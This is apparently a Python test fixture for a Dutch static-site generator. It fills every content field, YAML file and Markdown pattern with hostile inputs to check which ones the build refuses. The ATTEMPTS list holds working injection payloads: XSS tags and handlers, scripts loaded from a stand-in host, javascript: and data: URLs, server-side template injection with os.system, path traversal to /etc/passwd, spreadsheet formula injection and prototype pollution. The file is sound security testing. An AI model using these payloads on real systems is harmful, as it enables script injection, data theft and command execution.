"""Content of somebody who wants a page to do something: every attempt to escape, at every place that an editor fills.

In: an empty project. Out: the project with what the check lets through; what it refuses is taken out line by line, and
given back, so that both halves can be looked at.
"""

from __future__ import annotations

import json
import random
import shutil
from collections import defaultdict
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path

from binnenstad_site.core.diagnostics import Severity
from binnenstad_site.pipeline import Build, Options, Session
from tests.conftest import BASIS, TODAY
from tests.visiting import picture_bytes

MARK = "geraakt"
"""What an attempt that works sets on the window."""
SCRIPT = f"window.{MARK}=1"
HOST = "elders.example"
"""Where an attempt that works would ask for something."""
ATTEMPTS = (
    # tags and handlers
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</title></style></textarea></template><script>{SCRIPT}</script>",
    f'<script src="https://{HOST}/x.js"></script>',
    f"<img src=x onerror={SCRIPT}>",
    f'"><img src=x onerror="{SCRIPT}">',
    f"'><svg/onload='{SCRIPT}'>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>{SCRIPT}</script>'></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={SCRIPT}></style></mglyph></math>",
    f"<details open ontoggle={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f'<iframe src="javascript:{SCRIPT}"></iframe>',
    f'<object data="data:text/html,<script>{SCRIPT}</script>"></object>',
    f'<base href="https://{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    f'<link rel="stylesheet" href="https://{HOST}/x.css">',
    f'<form action="https://{HOST}/"><button autofocus>x</button></form>',
    f"<style>@import 'https://{HOST}/x.css';</style>",
    f"<!--><script>{SCRIPT}</script>",
    f"<![CDATA[><script>{SCRIPT}</script>]]>",
    f"< script >{SCRIPT}< / script >",
    f"<\u017fcript>{SCRIPT}</\u017fcript>",
    f"\uff1cscript\uff1e{SCRIPT}\uff1c/script\uff1e",
    f"\u2039script\u203a{SCRIPT}\u2039/script\u203a",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={SCRIPT}&amp;gt;",
    f"%3Cscript%3E{SCRIPT}%3C/script%3E",
    f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{SCRIPT}",
    # out of an attribute, a script, a style, JSON
    f'" onmouseover="{SCRIPT}" x="',
    f"' onfocus='{SCRIPT}' autofocus='",
    f"x onpointerenter={SCRIPT} y",
    f"';{SCRIPT};//",
    f'");{SCRIPT};//',
    f"`${{{SCRIPT}}}`",
    f'{{"__proto__":{{"{MARK}":1}}}}',
    f"]]}}}};{SCRIPT}",
    f"\u2028{SCRIPT}\u2029",
    "--><!--",
    "]]>",
    "*/ body { display: none } /*",
    f"}} body {{ background: url(https://{HOST}/x.png) }} x {{",
    f"expression({SCRIPT})",
    f"url(https://{HOST}/x.png)",
    f"\\75 rl(https://{HOST}/x.png)",
    # templates
    "{{ 7*7 }}",
    "{% import os %}{{ os.system('id') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# weg #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    # addresses
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt&#58;{SCRIPT}",
    f"java\\tscript:{SCRIPT}",
    f"vbscript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuZ2VyYWFrdD0xPC9zY3JpcHQ+?{MARK}",
    f"//{HOST}/x",
    f"\\\\{HOST}\\x",
    f"https://binnenstad.example@{HOST}/",
    "file:///etc/passwd",
    "blob:https://binnenstad.example/0",
    "../../../../etc/passwd",
    # names that a page or a table may hold already
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "location",
    "document.cookie",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elders.example/"&A1)',
    "+1+1",
    "@SUM(1+1)",
    "BEGIN:VALARM END:VALARM",
    "::error file=x::y",
    # what cannot be seen, and what is shown elsewhere than it stands
    "links\u202egnu\u202c",
    "\u2066geheel\u2069 anders",
    "niet\u200bte\u200dzien",
    "nul\x00byte",
    "bel\x07en\x1b[31mrood",
    "\ufeffmerk",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "a" + "\u0301" * 20,
    "raw\u0130\u0131\u212a",
)
IN_MARKDOWN = (
    "Zin met {}",
    "Zin met `{}` als code.",
    "Zin met [{}](https://krant.example/stuk) als link.",
    '[link](https://krant.example/stuk "{}")',
    "[link]({})",
    "<{}>",
    "[link](../../trends/anders-werken.md#{})",
    "![{}](plein.jpg)",
    '![plein](plein.jpg "{}")',
    "**{}** en *{}*",
    "> {}",
    "- punt {}",
    "### {}",
    "Zin [@krant-2024, {}].",
    "    {}",
)
TABLE = ("| kop | {} |\n| --- | --- |\n", "| vak | {} |\n")
HEAD = (BASIS / "content/praktijken/leiden-proef.md").read_text(encoding="utf-8")
FIELDS = "in_een_zin: Zo staat het er letterlijk.\ngecontroleerd: 2026-11\n"
SOURCE = "geraadpleegd: 2026-11"

Files = Mapping[str, str]


def escaped(text: str) -> Iterator[str]:
    """How an attempt can stand in Markdown: as it is, with every sign escaped, as entities."""
    yield text
    yield "".join("\\" + sign if sign in "<>&\"'`*_{}[]()#+-.!|=:/@%$;" else sign for sign in text)
    yield "".join(f"&#{ord(sign)};" if not sign.isalnum() and sign != " " else sign for sign in text)


def value(text: str) -> str:
    """A text as a quoted value of YAML."""
    return json.dumps(text, ensure_ascii=False)


def _praktijk(attempts: Sequence[str]) -> str:
    """A praktijk with every attempt in each of its lists and all over its text, an attempt on a line of its own."""
    place = "Waterdam"
    text = (
        HEAD.replace("Een proef in de hoofdstraat", f"Makers in {place}")
        .replace("Leiden", place)
        .replace("../trends", "../../trends")
    )
    values = [value(attempt) for attempt in attempts]
    lists = {
        "partijen:\n": [f"  - {text}\n" for text in values],
        "resultaten:\n": [f"  - {{tekst: {text}, bron: [krant-2024]}}\n" for text in values],
        "lessen:\n": [f"  - {{tekst: {text}, afgeleid: ja}}\n" for text in values],
        "bronnen:\n": [
            f"  - {{sleutel: poging-{n}, titel: {text}, uitgever: {text}, datum: 2024, {SOURCE}}}\n"
            for n, text in enumerate(values)
        ],
        "wijzigingen:\n": [f"  - {{datum: 2026-11-19, soort: groot, wat: {text}}}\n" for text in values[:20]],
    }
    for name, lines in lists.items():
        assert text.count("\n" + name) == 1, name
        text = text.replace("\n" + name, "\n" + name + "".join(lines))
    typed = [attempt for attempt in attempts if "\0" not in attempt]  # with it a file is no text
    written = [way.replace("{}", form) for attempt in typed for form in escaped(attempt) for way in IN_MARKDOWN]
    chance = random.Random(len(attempts))
    some = [line for line in written if not line.startswith(("!", "### ")) and chance.random() < 0.12]
    pictures = [line for line in written if line.startswith("![")][::7]
    headings = [line for line in written if line.startswith("### ")][::3]
    cells = TABLE[0].format("kop") + "".join(TABLE[1].replace("{}", attempt.replace("|", "\\|")) for attempt in typed)
    return text.replace(
        "## Resultaat\n", "\n\n".join(some[:400] + pictures[:30] + headings) + f"\n\n{cells}\n## Resultaat\n"
    )


def hostile_files(attempts: Sequence[str] = ATTEMPTS) -> Files:
    """Path -> text of every file; each attempt stands on one line, which can be taken out alone."""
    values = [value(attempt) for attempt in attempts]
    files = {
        "content/praktijken/vijandig/index.md": _praktijk(attempts),
        "content/begrippen.yaml": (BASIS / "content/begrippen.yaml").read_text(encoding="utf-8")
        + "".join(f"- {{term: {text}, ook: [{text}], uitleg: {text}}}\n" for text in values),
        "content/zoekwoorden.yaml": "- naam: x\n  kenmerk: status\n  waarden: [gestopt]\n  woorden:\n    - gestopt\n"
        + "".join(f"    - {text}\n" for text in values),
        "content/omleidingen.yaml": "- {van: /oud/, naar: /over/}\n"
        + "".join(f"- {{van: {value('/' + attempt + '/')}, naar: {value(attempt)}}}\n" for attempt in attempts)
        + "".join(f"- {{van: /oud-{n}/, naar: {value(attempt)}}}\n" for n, attempt in enumerate(attempts)),
    }
    for n, attempt in enumerate(attempts):
        text = value(attempt)
        files[f"content/agenda/poging-{n}.yaml"] = (
            f"titel: {text}\nstart: 2027-01-15\nplaats: {text}\nsoort: bijeenkomst\nvoor_wie: {text}\n"
        )
        files[f"content/publicaties/poging-{n}.yaml"] = (
            f"titel: {text}\nuitgever: {text}\nauteurs:\n  - {text}\ndatum: 2018\nurl: {text}\nsoort: publicatie\n"
            f"in_een_zin: {text}\n"
        )
        files[f"content/publicaties/stuk-{n}.yaml"] = (
            f"titel: {text}\nuitgever: {text}\ndatum: 2018\nurl: https://stuk.example/?{n}=a&b=%22%3E%3Cscript%3E\n"
            f"soort: publicatie\nin_een_zin: {text}\n"
        )
        if n % 2 == 0:  # a page takes a visit
            files[f"content/paginas/poging-{n}.md"] = f"---\ntitel: {text}\n{FIELDS}---\n\nTekst {n}.\n"
    for name in ("constructor", "javascript", "onload", "proto", "script", "tostring"):
        files[f"content/paginas/{name}.md"] = f"---\ntitel: Pagina {name}\n{FIELDS}---\n\nTekst over {name}.\n"
    return files


def lay_out_hostile(project: Path, files: Files, session: Session | None = None) -> tuple[Build, list[str]]:
    """Write the files and take out what is refused: a line of a list or a text, a whole file when a field of it is.

    Gives the build of what is left, without errors, and every line that was refused.
    """
    session = session or Session(project)
    for path, text in files.items():
        (project / path).parent.mkdir(parents=True, exist_ok=True)
        (project / path).write_text(text, encoding="utf-8", newline="\n")
        if path.endswith("/index.md"):
            (project / path).with_name("plein.jpg").write_bytes(picture_bytes("JPEG"))
    refused: list[str] = []
    made = session.build(Options(TODAY))
    while made.failed:
        wrong: dict[str, set[int]] = defaultdict(set)
        for diagnostic in made.diagnostics:
            if diagnostic.severity is Severity.ERROR:
                wrong[diagnostic.location.path].add(diagnostic.location.line)
        for path, numbers in wrong.items():
            refused += _take_out(project / path, numbers)
        made = session.build(Options(TODAY))
    return made, refused


def _take_out(file: Path, numbers: set[int]) -> list[str]:
    """Only ever an attempt: a message at a line of the small project is a mistake of the test, or of the message."""
    if file.is_dir() or not file.exists():
        shutil.rmtree(file, ignore_errors=True)
        return [file.name]
    lines = file.read_text(encoding="utf-8").split("\n")
    out = [lines[number - 1] for number in sorted(numbers)]
    if file.name.startswith(("poging-", "stuk-")):
        file.unlink()
        return out
    assert not {*out} & {"", *HEAD.split("\n")}, f"{file}: {out}"
    kept = [line for number, line in enumerate(lines, start=1) if number not in numbers]
    file.write_text("\n".join(kept), encoding="utf-8", newline="\n")
    return out
